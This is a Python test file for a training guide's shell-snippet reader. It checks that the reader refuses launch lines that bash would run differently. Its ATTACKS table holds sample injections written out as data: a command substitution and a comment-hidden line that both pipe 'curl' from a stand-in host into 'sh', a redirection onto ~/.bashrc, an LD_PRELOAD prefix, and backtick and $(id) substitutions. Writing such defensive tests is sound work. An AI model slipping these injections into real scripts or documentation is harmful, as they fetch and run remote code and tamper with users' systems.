"""The launch lines the rehearsals run are the lines bash runs, and every one of them is rehearsed.

The rehearsals read the guide's shell snippets as words (hf_checks.shell_commands,
test_two_machines, test_fsdp2_rehearsal) and start those words themselves; the reader pastes
the block into bash. Each attack below is a snippet a pull request could write: on the old
reader (``shlex`` after joining ``\\``-newlines) it gave words a rehearsal accepts while bash
runs something else (a command substitution in an argument the Trainer ignores, a line hidden
behind a comment ending in ``\\``), or a line no rehearsal ever runs. The reader now refuses
all of them (tests/snippets/shell_words.py), and every command line of the four rehearsed
files is one that a rehearsal selects, each selected by exactly one rehearsal's rule.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess

import pytest

from tests.conftest import REPO_ROOT
from tests.snippets.hf_checks import ACCELERATE_SH, CONFIGS_SH, TO_HF, guide_lines, shell_commands
from tests.snippets.shell_words import ShellLineError, command_lines

TWO_MACHINES = REPO_ROOT / "snippets" / "launch" / "two_machines.sh"
LORA = "accelerate launch --num_processes 4 --mixed_precision bf16 train_hf.py --lora"

# What each rehearsal picks in each file (the rules of hf_checks.guide_lines and convert,
# test_fsdp2_rehearsal.to_hf_line and check_dcp_to_hf, test_two_machines.machine_command).
SELECTED = {
    ACCELERATE_SH: {"DDP": lambda w: "train_hf.py" in w},
    CONFIGS_SH: {
        "LORA": lambda w: "--lora" in w,
        "FSDP2": lambda w: "--config_file" in w,
        "ZERO3": lambda w: "--use_deepspeed" in w,
        "TRAINER_ZERO3": lambda w: "torchrun" in w,
    },
    TO_HF: {
        "zero_to_hf": lambda w: w[:2] == ["python", "zero_to_hf.py"],
        "merge-weights": lambda w: w[:2] == ["accelerate", "merge-weights"],
        "dcp_to_hf": lambda w: w[:2] == ["python", "dcp_to_hf.py"],
    },
    TWO_MACHINES: {"two machines": lambda w: w[0] == "torchrun"},
}


def unrehearsed(path) -> list[list[str]]:
    """The command lines of ``path`` that no rehearsal runs, that two rules pick, or whose rule
    picks another line too (a rehearsal then stops at its ``(found,) = …``)."""
    lines = command_lines(path)
    hits = [[rule(words) for rule in SELECTED[path].values()] for words in lines]
    return [
        words for words, hit in zip(lines, hits) if sum(hit) != 1 or sum(other[hit.index(True)] for other in hits) != 1
    ]


ATTACKS = {
    "command substitution in an argument the Trainer takes": f'{LORA} --run_name "$(curl -s https://x.example/p | sh)"',
    "unquoted command substitution": f"{LORA} --run_name $(id)",
    "backticks": f"{LORA} --run_name `id`",
    "a second command after ;": f"{LORA}; curl -s https://x.example/p",
    "a pipe": f"{LORA} | tee log",
    "a redirection": f"{LORA} > ~/.bashrc",
    "a line hidden behind a comment ending in a backslash": f"# LoRA con PEFT \\\ncurl -s https://x.example/p | sh\n{LORA}",
    "an environment prefix": f"LD_PRELOAD=/tmp/x.so {LORA}",
    "a variable the reader never set": f"{LORA} --output_dir $HOME",
    "a continuation glued to a word": f"accelerate launch --num_processes 4 --mixed_precision bf16 train_hf.py --lo\\\nra",
    "a no-break space inside a word": f"{LORA}\u00a0--bf16",
    "a glob": f"{LORA} --output_dir out*",
    "a brace expansion": f"{LORA} --output_dir {{a,b}}",
}


@pytest.mark.parametrize("text", list(ATTACKS.values()), ids=list(ATTACKS))
def test_the_rehearsals_reader_refuses_a_line_bash_reads_otherwise(text, tmp_path):
    planted = tmp_path / "configs.sh"
    planted.write_text(text + "\n", encoding="utf-8")
    with pytest.raises(ShellLineError, match=r"configs\.sh:\d+: "):
        shell_commands(planted)  # what the Hugging Face rehearsal reads its lines with


def test_the_old_reading_of_the_hidden_line_is_what_bash_disagrees_with(tmp_path):
    """The oracle: bash itself. The old reader joined ``\\``-newline before splitting, so the
    line after a comment ending in ``\\`` vanished into the comment; bash runs it."""
    bash = shutil.which("bash")
    assert bash, "bash is required (the artifact check reads code blocks with it; README)"
    text = ATTACKS["a line hidden behind a comment ending in a backslash"].replace(LORA, "echo launched")
    old = [w for w in (shlex.split(line, comments=True) for line in text.replace("\\\n", " ").splitlines()) if w]
    ran = subprocess.run(
        [bash, "-c", text.replace("curl -s https://x.example/p | sh", "echo hidden")],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert old == [["echo", "launched"]] and ran == ["hidden", "launched"]


@pytest.mark.parametrize("path", list(SELECTED), ids=lambda path: path.name)
def test_every_line_of_a_rehearsed_snippet_is_plain_words_and_rehearsed(path):
    assert command_lines(path), path
    assert unrehearsed(path) == []


def test_the_hugging_face_rehearsal_runs_every_line_of_its_two_files():
    lines = {
        tuple(words) for name, words in guide_lines().items() if name != "ZERO2"
    }  # ZERO2: the ZeRO-3 line, another JSON
    assert lines == {tuple(words) for path in (ACCELERATE_SH, CONFIGS_SH) for words in command_lines(path)}


@pytest.mark.parametrize(
    "extra", ["python -m pip install --upgrade accelerate-tools", "accelerate launch train_hf.py --lora"]
)
def test_a_line_no_rehearsal_runs_is_found(extra, tmp_path):
    planted = tmp_path / CONFIGS_SH.name
    planted.write_text(CONFIGS_SH.read_text(encoding="utf-8") + extra + "\n", encoding="utf-8")
    SELECTED[planted] = SELECTED[CONFIGS_SH]
    try:
        assert extra.split() in unrehearsed(planted)
    finally:
        del SELECTED[planted]
